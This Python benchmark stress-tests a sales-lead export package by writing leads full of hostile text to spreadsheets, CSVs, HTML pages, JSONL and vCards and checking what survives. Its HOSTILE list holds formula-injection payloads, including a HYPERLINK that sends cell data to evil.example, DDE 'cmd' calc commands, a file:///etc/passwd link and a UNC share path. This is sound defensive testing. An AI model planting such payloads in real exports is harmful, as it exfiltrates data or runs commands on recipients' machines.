"""Random leads with hostile text through every file of a package, and read back by others.

    python benchmarks/package_round_trip.py [--leads 100000] [--seed 1] [--smoke]

A JSON line for each file: how many values read back equal, how many cells a spreadsheet program
would run or make a link of, how many numbers kept their plus, and the seconds. Of cards, pages
and lines every fiftieth is read by somebody else's library. What differs on purpose: a cell takes
32,767 characters and none that XML forbids, a card is one line, and a page of answers shows a name
without what turns letters around. Halves of characters never come this far: no workspace keeps
them.
"""

import argparse
import csv
import io
import json
import random
import re
import sys
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import asdict, dataclass
from datetime import UTC, date, datetime
from typing import Any
from zipfile import ZipFile

import html5lib
import openpyxl
import vobject
from jsonschema import Draft202012Validator

from qualdesk.core.crm_sources import fields_of, row_of
from qualdesk.core.handoff import (
    Brief,
    ComesFrom,
    Evidence,
    HandoffItem,
    Package,
    Receiver,
    Standing,
)
from qualdesk.core.ids import BatchId, CampaignId, LeadId
from qualdesk.core.leads import Bucket, Company, Contact, Lead, Phone, PhoneState, Signals
from qualdesk.core.plain_text import without_tricks
from qualdesk.files.answer_form import HEADINGS, answer_sheet
from qualdesk.files.answer_page import BLOCK, answer_page
from qualdesk.files.brief_html import brief_page
from qualdesk.files.crm_profiles import shipped_profiles
from qualdesk.files.crm_tables import crm_tables
from qualdesk.files.lead_lines import lead_line, lead_lines, lead_schema
from qualdesk.files.lead_tables import (
    cell_text,
    columns_of,
    csv_for_machines,
    csv_for_spreadsheets,
    rows_of,
    workbook,
)
from qualdesk.files.vcards import contact_cards

_AT = datetime(2026, 3, 17, 9, 0, tzinfo=UTC)
_SALES = (
    Receiver(name="Lena Brandt", email="lena@sealers.example", zone="Europe/Berlin"),
    Receiver(name="Sam Osei", email="sam@sealers.example", zone="Europe/London"),
)
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001 - a full-width formula
    "＋1",  # noqa: RUF001 - a full-width plus
    "http://evil.example/",
    "mailto:a@b.example",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    'He said "no", twice;\r\nand left',
    "_x0041_ _x000D_",
    "Müßig, Łukasz & Søn 王小明 😀",
    "<b>bold</b> & </c>",
    "'quoted",
    "007",
    "1e5",
    "1/2",
    "TRUE",
    "#REF!",
    "a\x00b\x1fc\ufffe",
    "two\u2028lines\u2029here\x85now",
    "\u202egnp.exe",
    "\ufeffmark",
)
# How few texts are as long as a cell holds, or longer: they cost memory, not insight.
_LONG_ONES = 5_000
_EVERY = 50


@dataclass(frozen=True, kw_only=True, slots=True)
class Came:
    """What came of one file: ``values`` in all, and how many of them read back ``equal``."""

    file: str
    rows: int
    values: int
    equal: int
    runs: int = 0
    links: int = 0
    numbers: int = 0
    with_plus: int = 0
    written_s: float = 0.0
    read_s: float = 0.0

    @property
    def is_whole(self) -> bool:
        """Whether nothing was lost and nothing would run."""
        return (
            self.values == self.equal
            and not self.runs
            and not self.links
            and self.numbers == self.with_plus
        )


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--leads", type=int, default=100_000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--smoke", action="store_true", help="500 leads")
    asked = parser.parse_args()
    broken = 0
    for came in round_trip(500 if asked.smoke else asked.leads, asked.seed):
        print(json.dumps({**asdict(came), "is_whole": came.is_whole}))
        broken += not came.is_whole
    return 1 if broken else 0


def round_trip(leads: int, seed: int) -> Iterator[Came]:
    """Write each file of a package of so many random leads, and read it back."""
    package = hostile_package(leads, seed)
    headings, rows = columns_of(package), rows_of(package)
    yield _workbook("leads.xlsx", headings, rows)
    yield _machines("leads-for-machines.csv", headings, rows)
    yield _spreadsheets("leads-for-spreadsheets.csv", headings, rows)
    for profile in shipped_profiles():
        theirs = [field.heading for field in fields_of(profile)]
        told = [list(row_of(item, package, profile)) for item in package.items]
        began = time.perf_counter()
        files = crm_tables(package, profile)
        seconds = time.perf_counter() - began
        for name, content in files.items():
            kind = _workbook if name.endswith(".xlsx") else _machines
            kind = _spreadsheets if "spreadsheets" in name else kind
            yield kind(name, theirs, told, content=content, seconds=seconds / len(files))
    yield _answer_sheet(package)
    yield _answer_page(package)
    yield _briefs(package)
    yield _lines(package)
    yield _cards(package)


def hostile_package(leads: int, seed: int) -> Package:
    """A batch of random leads whose every word may be hostile; the same for the same seed."""
    draw = random.Random(seed)
    return Package(
        batch_id=BatchId(1),
        number=1,
        campaign="=PackTech Expo",
        answer_by=date(2026, 3, 24),
        made_by="Rosa",
        made_at=_AT,
        reasons=("Wrong person",),
        items=tuple(_item(draw, number) for number in range(1, leads + 1)),
    )


def _item(draw: random.Random, number: int) -> HandoffItem:
    def text() -> str:
        if draw.randrange(3):
            return draw.choice(("Kim", "Ana", "Bo", "Lee")) + f" {draw.randrange(10**6)}"
        said = draw.choice(HOSTILE)
        if not draw.randrange(4):
            said += "".join(draw.choice("=+-@\t;,\"'aß王😀\n ") for _ in range(draw.randrange(40)))
        return said * (40_000 // len(said)) if not draw.randrange(_LONG_ONES) else said

    first, last = text(), text()
    contact = Contact(
        name=f"{first} {last}",
        first_name=first,
        last_name=last,
        title=text(),
        company=Company(name=text()),
        phones=tuple(_phone(draw) for _ in range(draw.randrange(5))),
        emails=tuple(f"p{number}.{n}@example.com" for n in range(draw.randrange(3))),
        city=text(),
        subdivision=text(),
        postcode=text(),
        country=draw.choice(("DE", "GB", "US", "")),
    )
    brief = Brief(
        lead_id=LeadId(number),
        name=contact.name,
        phones=tuple(phone.e164 for phone in contact.phones),
        emails=contact.emails,
        points=draw.randrange(100),
        threshold=50,
        in_one_line=text(),
        why=(Evidence(criterion="need", label="Need", standing=Standing.MET, says=text()),),
        said=tuple(text() for _ in range(draw.randrange(3))),
        do_next=(text(),),
        comes_from=ComesFrom(source="Trade show", event=text(), definition="3"),
        permission=text(),
        note=text(),
    )
    lead = Lead(
        id=LeadId(number),
        campaign_id=CampaignId(1),
        contact=contact,
        signals=Signals(),
        bucket=Bucket.QUALIFIED,
        external_id=text(),
    )
    return HandoffItem(
        id=f"{draw.getrandbits(128):032x}", lead=lead, brief=brief, receiver=draw.choice(_SALES)
    )


def _phone(draw: random.Random) -> Phone:
    e164 = draw.choice(("+121255501", "+4420794600", "+493023125")) + f"{draw.randrange(100):02}"
    return Phone(raw=e164, e164=e164, state=PhoneState.VALID)


def _timed(work: Callable[[], Any]) -> tuple[Any, float]:
    began = time.perf_counter()
    found = work()
    return found, round(time.perf_counter() - began, 2)


def _machines(
    name: str,
    headings: Sequence[str],
    rows: Sequence[Sequence[str]],
    *,
    content: bytes = b"",
    seconds: float = 0.0,
) -> Came:
    if not content:
        content, seconds = _timed(lambda: csv_for_machines(headings, rows))
    read, took = _timed(lambda: _csv(content, "utf-8"))
    return _compared(name, headings, rows, read, seconds=(seconds, took), meant=str)


def _spreadsheets(
    name: str,
    headings: Sequence[str],
    rows: Sequence[Sequence[str]],
    *,
    content: bytes = b"",
    seconds: float = 0.0,
) -> Came:
    if not content:
        content, seconds = _timed(lambda: csv_for_spreadsheets(headings, rows))
    read, took = _timed(lambda: _csv(content, "utf-8-sig"))
    return _compared(name, headings, rows, read, seconds=(seconds, took), meant=_made_harmless)


def _workbook(
    name: str,
    headings: Sequence[str],
    rows: Sequence[Sequence[str]],
    *,
    content: bytes = b"",
    seconds: float = 0.0,
) -> Came:
    if not content:
        content, seconds = _timed(lambda: workbook(headings, rows))
    read, took = _timed(lambda: _xlsx(content))
    came = _compared(name, headings, rows, read, seconds=(seconds, took), meant=cell_text)
    runs, links = _of_workbook(content)
    return Came(**{**asdict(came), "runs": runs, "links": links})


def _compared(
    name: str,
    headings: Sequence[str],
    rows: Sequence[Sequence[str]],
    read: Sequence[Sequence[str]],
    *,
    seconds: tuple[float, float],
    meant: Callable[[str], str],
) -> Came:
    """How many values are equal to what was ``meant``; a row too few or too many equals none."""
    values = sum(len(row) for row in rows)
    same = len(read) == len(rows) + 1 and list(read[0]) == [meant(one) for one in headings]
    equal = runs = numbers = with_plus = 0
    for row, back in zip(rows, read[1:], strict=False) if same else ():
        equal += sum(meant(value) == seen for value, seen in zip(row, back, strict=True))
        numbers += sum(bool(_NUMBER.fullmatch(value)) for value in row)
        with_plus += sum(bool(_NUMBER.fullmatch(seen)) for seen in back)
        if meant is _made_harmless:
            runs += sum(seen.startswith(_RUNS) and not _NUMBER.fullmatch(seen) for seen in back)
    return Came(
        file=name,
        rows=len(rows),
        values=values,
        equal=equal,
        runs=runs,
        numbers=numbers,
        with_plus=with_plus,
        written_s=round(seconds[0], 2),
        read_s=seconds[1],
    )


def _made_harmless(value: str) -> str:
    """What a spreadsheet program is given: said here again, not asked of what is measured."""
    return f"'{value}" if value.startswith(_RUNS) and not _NUMBER.fullmatch(value) else value


def _csv(content: bytes, encoding: str) -> list[list[str]]:
    csv.field_size_limit(10**7)
    return list(csv.reader(io.StringIO(content.decode(encoding), newline="")))


def _xlsx(content: bytes) -> list[list[str]]:
    book = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    rows = book.worksheets[0].iter_rows(values_only=True)
    # The format writes an underscore before x and four signs as _x005F_; openpyxl leaves it so.
    read = [[str(value or "").replace("_x005F_", "_") for value in row] for row in rows]
    book.close()
    return read


def _of_workbook(content: bytes) -> tuple[int, int]:
    """How many formulas and how many links a workbook holds, by what stands in its parts."""
    runs = links = 0
    with ZipFile(io.BytesIO(content)) as parts:
        for part in parts.namelist():
            links += "hyperlink" in part.lower() or "externalLink" in part
            if part.startswith("xl/worksheets/"):
                sheet = parts.read(part)
                runs += len(re.findall(rb"<f[ >/]", sheet))
                links += sheet.count(b"<hyperlink") + sheet.count(b"relationships/hyperlink")
    return runs, links


def _answer_sheet(package: Package) -> Came:
    """What sales fills in: whom each row is about, and nothing else in it yet."""
    contacts = [item.lead.contact for item in package.items]
    rows = [
        [item.id, package.title, contact.name, contact.company_name, *[""] * len(HEADINGS[4:])]
        for item, contact in zip(package.items, contacts, strict=True)
    ]
    content, wrote = _timed(lambda: answer_sheet(package))
    return _workbook("answers.xlsx", HEADINGS, rows, content=content, seconds=wrote)


def _answer_page(package: Package) -> Came:
    """The same as a page: its data read as JSON, as the page itself reads it."""
    content, wrote = _timed(lambda: answer_page(package))
    text = content.decode("utf-8")
    begins = text.index(">", text.index(f'id="{BLOCK}"')) + 1
    block = text[begins : text.index("</script>", begins)]
    read, took = _timed(lambda: json.loads(block)["leads"])
    pairs = zip(package.items, read, strict=True)
    equal = sum(
        (item.id, without_tricks(item.lead.contact.name).strip()) == (lead["id"], lead["name"])
        for item, lead in pairs
    )
    links = len(re.findall(r"<(?:a|img|link|iframe)\b", text[: begins - len(block)]))
    return Came(
        file="answers.html",
        rows=len(read),
        values=len(package.items),
        equal=equal,
        links=links,
        written_s=wrote,
        read_s=took,
    )


def _briefs(package: Package) -> Came:
    """Every so many pages are read by somebody else's library, which takes no mistake."""
    some = package.items[::_EVERY]
    pages, wrote = _timed(lambda: [brief_page(item, footer="Batch 1") for item in some])
    strict = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False)
    trees, took = _timed(lambda: [strict.parse(page) for page in pages])
    hrefs = [one.get("href", "") for tree in trees for one in tree.iter("a")]
    return Came(
        file="briefs/*.html",
        rows=len(some),
        values=len(some),
        equal=sum(tree.find("body") is not None for tree in trees),
        runs=sum(len(list(tree.iter("script"))) for tree in trees),
        links=sum(not one.startswith(("tel:", "mailto:")) for one in hrefs),
        numbers=sum(one.startswith("tel:") for one in hrefs),
        with_plus=sum(one.startswith("tel:+") for one in hrefs),
        written_s=wrote,
        read_s=took,
    )


def _lines(package: Package) -> Came:
    content, wrote = _timed(lambda: lead_lines(package))
    lines = content.splitlines()
    read, took = _timed(lambda: [lead_line(line).item for line in lines])
    equal = sum(one == item for one, item in zip(read, package.items, strict=True))
    schema = Draft202012Validator(json.loads(lead_schema()))
    for line in lines[::_EVERY]:
        schema.validate(json.loads(line))
    phones = [phone.e164 for item in package.items for phone in item.lead.contact.phones]
    return Came(
        file="leads.jsonl",
        rows=len(lines),
        values=len(package.items),
        equal=equal,
        numbers=len(phones),
        with_plus=sum(
            phone.e164.startswith("+") for item in read for phone in item.lead.contact.phones
        ),
        written_s=wrote,
        read_s=took,
    )


def _cards(package: Package) -> Came:
    """Every card is counted; every so many are read by somebody else's library."""
    content, wrote = _timed(lambda: contact_cards(package.items))
    some = package.items[::_EVERY]
    part = contact_cards(some).decode("utf-8")
    read, took = _timed(lambda: list(vobject.readComponents(part)))
    numbers = [[phone.e164 for phone in item.lead.contact.dialable] for item in some]
    found = [[one.value for one in card.contents.get("tel", [])] for card in read]
    cards = sum(line == b"BEGIN:VCARD" for line in content.split(b"\r\n"))
    return Came(
        file="contacts.vcf",
        rows=cards,
        values=len(package.items) + len(some),
        equal=cards + sum(a == b for a, b in zip(numbers, found, strict=True)),
        numbers=sum(map(len, numbers)),
        with_plus=sum(one.startswith("+") for phones in found for one in phones),
        written_s=wrote,
        read_s=took,
    )


_NUMBER = re.compile(r"\+\d{7,15}")
_RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001 - they are meant


if __name__ == "__main__":
    sys.exit(main())
